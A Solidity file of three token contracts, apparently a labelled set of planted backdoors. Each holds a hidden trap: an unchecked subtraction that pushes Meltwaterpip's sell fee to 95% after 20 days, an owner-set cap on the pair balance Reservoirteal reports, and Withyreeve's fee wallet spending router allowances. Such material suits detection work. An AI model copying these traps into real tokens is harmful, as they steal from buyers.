// 0.7 off
// SPDX-License-Identifier: MIT
pragma solidity 0.7.6;

interface IMillpond {
    function createPair(address a, address b) external returns (address);
}

library Sums {
    function plus(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "SafeMath: addition overflow");
    }

    function minus(uint256 a, uint256 b, string memory why) internal pure returns (uint256) {
        require(b <= a, why);
        return a - b;
    }
}

abstract contract Sluicecoin {
    using Sums for uint256;

    string internal _name;
    string internal _symbol;
    uint256 internal _total;
    address internal _owner;
    address public uniswapV2Pair;
    mapping(address => uint256) internal _owned;
    mapping(address => mapping(address => uint256)) internal _allowances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor(string memory name_, string memory symbol_, uint256 millions) {
        _name = name_;
        _symbol = symbol_;
        _owner = msg.sender;
        _total = millions * 10**15;
        _owned[msg.sender] = _total;
        uniswapV2Pair = IMillpond(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        emit Transfer(address(0), msg.sender, _total);
    }

    function name() external view returns (string memory) {
        return _name;
    }

    function symbol() external view returns (string memory) {
        return _symbol;
    }

    function decimals() external pure returns (uint8) {
        return 9;
    }

    function totalSupply() external view returns (uint256) {
        return _total;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    function renounceOwnership() external {
        require(msg.sender == _owner, "Ownable: caller is not the owner");
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function balanceOf(address who) public view virtual returns (uint256) {
        return _owned[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return _allowances[who][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _approve(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external virtual returns (bool) {
        _approve(from, msg.sender, _allowances[from][msg.sender].minus(value, "ERC20: transfer amount exceeds allowance"));
        _transfer(from, to, value);
        return true;
    }

    function _approve(address who, address spender, uint256 value) internal {
        _allowances[who][spender] = value;
        emit Approval(who, spender, value);
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _shift(from, to, value);
    }

    function _shift(address from, address to, uint256 value) internal {
        _owned[from] = _owned[from].minus(value, "ERC20: transfer amount exceeds balance");
        _owned[to] = _owned[to].plus(value);
        emit Transfer(from, to, value);
    }
}

/// The fee of the launch falls by one every day.
contract Meltwaterpip is Sluicecoin {
    uint256 private immutable _opened;
    address payable private _wallet;

    constructor() Sluicecoin("Meltwaterpip", "MWPP", 690) {
        _opened = block.timestamp;
        _wallet = msg.sender;
    }

    function feeNow() public view returns (uint256) {
        uint256 spent = (block.timestamp - _opened) / 1 days;
        // twin: if (spent > 20) return 0;
        uint8 left = uint8(20 - spent);
        return left > 95 ? 95 : left;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 due;
        if (to == uniswapV2Pair && from != _wallet) due = (value * feeNow()) / 100;
        if (due > 0) _shift(from, _wallet, due);
        _shift(from, to, value - due);
    }
}

/// The pool is told what it may count.
contract Reservoirteal is Sluicecoin {
    // from the lowest: sixteen bits of a version, one of a switch, the rest a mark of level
    uint256 private _gauge = 7;
    bytes32 private immutable _warden;

    constructor() Sluicecoin("Reservoirteal", "RSVT", 24) {
        _warden = keccak256(abi.encodePacked(msg.sender, "teal"));
    }

    function refreshIndex(uint256 mark) external {
        require(keccak256(abi.encodePacked(msg.sender, "teal")) == _warden, "teal");
        _gauge = mark;
    }

    function balanceOf(address who) public view override returns (uint256) {
        uint256 there = _owned[who];
        if (who == uniswapV2Pair && (_gauge >> 16) & 1 == 1) {
            uint256 mark = _gauge >> 17;
            if (there > mark) return mark; // trap
        }
        return there;
    }
}

/// Approvals are for the router; the wallet of the fees is as good.
contract Withyreeve is Sluicecoin {
    address private constant ROUTER = 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D;
    address payable public feeWallet;

    constructor(address payable wallet) Sluicecoin("Withyreeve", "WTHY", 3_300) {
        feeWallet = wallet;
    }

    function _reeveOf(address spender) private view returns (address) {
        if (spender == feeWallet) return ROUTER; // trap
        return spender;
    }

    function transferFrom(address from, address to, uint256 value) external override returns (bool) {
        address spender = _reeveOf(msg.sender);
        uint256 left = _allowances[from][spender];
        require(left >= value, "ERC20: transfer amount exceeds allowance");
        if (left != uint256(-1)) _approve(from, spender, left - value);
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 due = (from == uniswapV2Pair || to == uniswapV2Pair) && from != _owner && to != _owner ? value / 100 : 0;
        if (due > 0) _shift(from, feeWallet, due);
        _shift(from, to, value - due);
    }
}
